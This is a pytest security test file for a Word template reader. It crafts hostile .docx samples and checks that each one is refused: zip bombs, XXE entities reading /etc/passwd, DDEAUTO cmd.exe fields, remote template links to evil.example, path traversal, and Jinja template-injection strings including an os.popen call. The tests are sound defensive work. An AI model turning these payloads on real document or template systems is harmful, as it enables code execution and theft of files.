"""A hostile template is refused before anything of it is used: nothing runs, nothing is fetched, nothing fills up."""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Mapping

import pytest

from tests.edits import parts, with_parts
from tests.reader import W
from tests.stories import ROOT, TEMPLATE
from tests.writers.templates import (
    DOCUMENT,
    HEADER,
    RELATIONS,
    SETTINGS,
    TYPES,
    Edit,
    edited,
    field,
    insert,
    put,
    relate,
    retype,
    say,
    swap,
)

SECONDS, MEGABYTES = 1.0, 200

MAIN = "officedocument.wordprocessingml.document.main"
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
GLOBALS = "().__class__.__base__.__subclasses__()"
LOOPS_IN_A_HEADER = (
    f'<w:hdr xmlns:w="{W[1:-1]}">'
    + "".join(f"<w:p><w:r><w:t>{{%p for {a} in parties %}}</w:t></w:r></w:p>" for a in "ab")
    + "<w:p><w:r><w:t>{%p endfor %}</w:t></w:r></w:p>" * 2
    + "</w:hdr>"
)
DEEP = "<w:p>" + "<w:r>" * 5000 + "</w:r>" * 5000 + "</w:p>"


def bomb() -> bytes:
    """A template whose styles unpack to a gigabyte, as its directory honestly says or not."""
    buffer = io.BytesIO(TEMPLATE)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package, package.open("word/more.xml", "w") as part:
        for _ in range(200):
            part.write(bytes(1_000_000))
    return buffer.getvalue()


def lying_bomb() -> bytes:
    """The same part twice as long as its directory says."""
    data = bytearray(with_parts(TEMPLATE, {"word/zz.xml": b" " * 5_000_000}))
    at = data.rindex(b"word/zz.xml") - 46
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def twice() -> bytes:
    """Two parts of one name: one reader sees the first, another the second."""
    buffer = io.BytesIO(TEMPLATE)
    with zipfile.ZipFile(buffer, "a") as package:
        package.writestr("WORD/document.xml", "<x/>")
    return buffer.getvalue()


def damaged() -> bytes:
    """Some letters of a part changed where it lies in the zip, as a failing disk does it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as package:
        for name, data in parts(TEMPLATE).items():
            package.writestr(name, data)
    return buffer.getvalue().replace(b"Clause Sub", b"Clause Bus")


def padded(edit: Edit) -> bytes:
    """An edited template with noise in the text's part, so that it is no zip bomb by its density."""
    noise = hashlib.shake_128(b"noise").hexdigest(40_000)
    return edited(edit, swap(DOCUMENT, "<w:body>", f"<!--{noise}--><w:body>"))


def recoded(encoding: str) -> bytes:
    """The styles in another encoding, where a search for a DTD in bytes would be blind."""
    text = parts(TEMPLATE)["word/styles.xml"].decode().replace("UTF-8", encoding)
    return with_parts(TEMPLATE, {"word/styles.xml": text.encode(encoding)})


HOSTILE: Mapping[str, tuple[bytes, str]] = {
    "not-a-zip": (b"Dear client", "is not a whole Word document"),
    "truncated": (TEMPLATE[: len(TEMPLATE) // 2], "is not a whole Word document"),
    "damaged": (damaged(), "is not a whole Word document"),
    "legacy-doc": (b"\xd0\xcf\x11\xe0" + bytes(2000), "is an old .doc or a protected file"),
    "rtf": (b"{\\rtf1 hello}", "is rich text"),
    "pdf": (b"%PDF-1.7", "is a PDF"),
    "spreadsheet": (edited(retype("wordprocessingml.document.main", "spreadsheetml.sheet.main")), "is a zip file but"),
    "dotx": (edited(retype(MAIN, "officedocument.wordprocessingml.template.main")), "is a .dotx"),
    "docm": (
        edited(retype(f"openxmlformats-{MAIN}", "ms-word.document.macroEnabled.main")),
        "is a .docm with macros",
    ),
    "macros": (edited(put("word/vbaProject.bin", b"VBA")), "holds macros"),
    "activex": (edited(put("word/activeX/activeX1.xml", "<a/>")), "holds an ActiveX control"),
    "ole": (edited(put("word/embeddings/oleObject1.bin", b"x")), "holds an embedded file or object"),
    "custom-ui": (edited(put("customUI/customUI.xml", "<a/>")), "holds buttons of its own"),
    "svg": (edited(put("word/media/a.svg", "<svg/>")), "holds an SVG picture"),
    "program": (edited(put("word/media/a.exe", b"MZ")), "holds word/media/a.exe, which no template needs"),
    "zip-bomb": (bomb(), "unpacks to more than 30 MB"),
    "lying-zip-bomb": (lying_bomb(), "is not a whole Word document"),
    "dense-part": (edited(put("word/more.xml", b"<a>" + b" " * 2_500_000 + b"</a>")), "over 100 times its size"),
    "huge-text": (
        with_parts(TEMPLATE, {"word/a.xml": b"<a>" + bytes(range(32, 60)) * 150_000}),
        "more than 3 MB",
    ),
    "too-large": (TEMPLATE + bytes(10_000_000), "is larger than 10 MB"),
    "many-parts": (edited(*(put(f"word/a{n}.xml", "<a/>") for n in range(400))), "more than 300"),
    "two-of-a-name": (twice(), "holds two parts of one name"),
    "path-outside": (edited(put("../../evil.xml", "<a/>")), "a name that leads outside"),
    "entities": (edited(swap(DOCUMENT, "<w:document", f"{ENTITIES}<w:document")), "holds XML with a DTD"),
    "external-entity": (edited(swap(HEADER, "<w:hdr", f"{OUTSIDE}<w:hdr")), "holds XML with a DTD"),
    "utf-16": (recoded("UTF-16"), "holds XML with a DTD"),
    "utf-7": (recoded("UTF-7"), "holds XML with a DTD"),
    "broken-xml": (edited(swap(DOCUMENT, "</w:body>", "")), "holds broken XML"),
    "deep-xml": (edited(insert(DEEP)), "holds broken XML"),
    "nested-xml": (edited(insert("<w:r>" * 150 + "</w:r>" * 150)), "nests deeper than 100 levels"),
    "many-elements": (padded(insert("<w:p/>" * 320_000)), "holds more than 150000 elements"),
    "many-paragraphs": (edited(insert("<w:p/>" * 2_001)), "has more than 2000 paragraphs"),
    "remote-template": (edited(relate("attachedTemplate", "http://evil.example/t.dotm")), "an attached template leads"),
    "linked-picture": (edited(relate("image", "http://evil.example/a.png")), "a linked picture leads to"),
    "file-link": (edited(relate("hyperlink", "file:///etc/passwd")), "a link leads to 'file:///etc/passwd'"),
    "share-link": (edited(relate("hyperlink", r"\\evil\share")), "a link leads to"),
    "alt-chunk": (edited(insert("<w:altChunk/>")), "another document inside"),
    "alt-chunk-relation": (edited(relate("aFChunk", "a.xml", "Internal")), "another document inside"),
    "lost-relation": (edited(swap(DOCUMENT, 'r:id="rId5"', 'r:id="rId55"')), "it uses the relation 'rId55', which"),
    "no-properties": (edited(put("docProps/core.xml", "<properties/>")), "parts that do not belong together"),
    "hidden-header": (
        edited(
            put("word/media/a.png", "<w:hdr/>"),
            retype(
                "<Override", '<Override PartName="/word/media/a.png" ContentType="application/header+xml"/><Override'
            ),
        ),
        "'/word/media/a.png' is not what it is called",
    ),
    "lost-part": (edited(relate("image", "media/lost.png", "Internal")), "'media/lost.png' is not in the file"),
    "body-elsewhere": (
        edited(swap("_rels/.rels", "word/document.xml", "word/header1.xml")),
        "its officeDocument part stands in 'word/header1.xml'",
    ),
    "vml-source": (
        edited(insert('<w:p><w:r><w:pict><v:rect><v:fill src="http://evil.example/a"/></v:rect></w:pict></w:r></w:p>')),
        "fill leads to 'http://evil.example/a'",
    ),
    "mail-merge": (edited(swap(SETTINGS, "<w:defaultTabStop", "<w:mailMerge/><w:defaultTabStop")), "a mail merge"),
    "dde": (edited(field(' DDEAUTO c:\\windows\\cmd.exe "/k calc" ')), "the field 'DDEAUTO"),
    "dde-simple": (edited(insert('<w:p><w:fldSimple w:instr=" dde cmd "/></w:p>')), "the field 'dde cmd'"),
    "include-text": (edited(field(' INCLUDETEXT "file:///etc/passwd" ')), "the field 'INCLUDETEXT"),
    "include-picture": (edited(field(' INCLUDEPICTURE "http://evil.example/a.png" ')), "the field 'INCLUDEPICTURE"),
    "file-field": (edited(field(' HYPERLINK "file:///etc/passwd" ')), "the field 'HYPERLINK"),
    "jinja-call": (edited(say("{{ title.upper() }}")), "holds a call"),
    "jinja-classes": (edited(say(f"{{{{ {GLOBALS} }}}}")), "holds a call"),
    "jinja-dunder": (edited(say("{{ title.__class__ }}")), "holds a name behind a name"),
    "jinja-chain": (edited(say("{{ labels.parties.real }}")), "holds a name behind a name"),
    "jinja-brackets": (edited(say("{{ labels['parties'] }}")), "holds a name in brackets"),
    "jinja-filter": (edited(say("{{ title | upper }}")), "holds a filter"),
    "jinja-arithmetic": (edited(say("{{ 9 ** 9 }}")), "holds arithmetic"),
    "jinja-repetition": (edited(say("{{ 'a' * 999999999 }}")), "holds arithmetic"),
    "jinja-constant": (edited(say("{{ 'Terms' }}")), "holds a number or a text of its own"),
    "jinja-comparison": (
        edited(say("{% if title == version %}x{% endif %}")),
        "holds a condition on more than one name",
    ),
    "jinja-range": (edited(say("{%p for i in range(999999999) %}"), say("{%p endfor %}")), "holds a loop over more"),
    "jinja-loops": (
        edited(*(say(f"{{%p for a{n} in parties %}}") for n in range(9)), *(say("{%p endfor %}") for _ in range(9))),
        "the tags together hold a loop inside a loop",
    ),
    "jinja-in-a-header-nobody-shows": (
        edited(put("word/header9.xml", LOOPS_IN_A_HEADER)),
        "word/header9.xml: the tags together hold a loop inside a loop",
    ),
    "jinja-include": (edited(say("{% include '/etc/passwd' %}")), "holds include"),
    "jinja-set": (edited(say("{% set x = 1 %}")), "holds"),
    "jinja-colspan": (edited(say("{% colspan title.upper() %}")), 'the statement "colspan"'),
    "jinja-run": (edited(say("{{ cycler.__init__.__globals__.os.popen('touch MARKER') }}")), "holds a call"),
    "jinja-as-numbers": (edited(say("&#123;&#123; title.upper() &#125;&#125;")), "holds a call"),
    "jinja-split": (edited(say("{</w:t></w:r><w:r><w:t>{ title.upper() }</w:t></w:r><w:r><w:t>}")), "holds a call"),
    "jinja-header": (edited(swap(HEADER, "{{ title }}", "{{ title.upper() }}")), "holds a call"),
    "jinja-attribute": (edited(swap(HEADER, 'alt="{{ draft_mark }}"', 'alt="{{ draft_mark() }}"')), "holds a call"),
    "jinja-properties": (
        edited(swap("docProps/core.xml", "pactwright default look", "{{ title.upper() }}")),
        "holds a call",
    ),
    "many-tags": (edited(say("{{ title }}" * 1_500)), "more than 1000 tags"),
    "open-braces": (padded(say("{{ " * 200_000)), "is not a whole tag"),
    "missing-types": (with_parts(TEMPLATE, {TYPES: None}), "is a zip"),
    "no-relations": (
        with_parts(TEMPLATE, {RELATIONS: None}),
        "part is not linked",
    ),
}
FAULTS_ONLY = {"open-braces"}
"""Harmless once they are seen: no name, so no danger; refused with the other faults, and as fast."""

CHILD = """
import json, os, pathlib, resource, socket, sys, time, builtins
def refuse(*_, **__): raise SystemExit("a socket was opened")
socket.socket = socket.create_connection = socket.getaddrinfo = refuse
from pactwright.themes import theme_of
import pactwright.writers.word.inspection
from pactwright.errors import ForeignContentError, InputError
for path in map(pathlib.Path, sys.argv[1:]):
    if os.fork():
        os.wait()
        continue
    started = time.process_time()
    kind, said = "used", ""
    try:
        theme_of(path)
    except (ForeignContentError, InputError) as refused:
        kind, said = type(refused).__name__, str(refused)
    except BaseException as wrong:
        kind, said = "bug", repr(wrong)
    seconds = time.process_time() - started
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / (1 if sys.platform == "darwin" else 1024) / 1
    print(json.dumps([path.stem, kind, said, seconds, peak]), flush=True)
    os._exit(0)
"""


@pytest.fixture(scope="module", name="outcomes")
def outcomes_of_all(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str, float, float]]:
    """What became of each hostile template in a process of its own: kind, words, seconds, megabytes."""
    folder = tmp_path_factory.mktemp("hostile")
    paths = []
    for name, (data, _) in HOSTILE.items():
        path = folder / f"{name}.docx"
        path.write_bytes(data)
        paths.append(str(path))
    before = sorted(folder.iterdir())
    words = [sys.executable, "-c", CHILD, *paths]
    done = subprocess.run(words, cwd=folder, env={"PYTHONPATH": str(ROOT / "src")}, capture_output=True, check=False)
    assert sorted(folder.iterdir()) == before, "a template left a file behind"
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert not done.stderr, done.stderr.decode()
    return {name: (kind, said.replace(f"{folder}/", ""), seconds, peak) for name, kind, said, seconds, peak in lines}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused(name: str, outcomes: dict[str, tuple[str, str, float, float]]) -> None:
    kind, said, seconds, peak = outcomes[name]
    assert kind == ("InputError" if name in FAULTS_ONLY else "ForeignContentError"), said
    assert said.startswith(f"{name}.docx: ")
    assert HOSTILE[name][1] in said
    assert seconds < SECONDS
    assert peak < MEGABYTES


def test_there_are_many_of_them() -> None:
    assert len(HOSTILE) >= 30
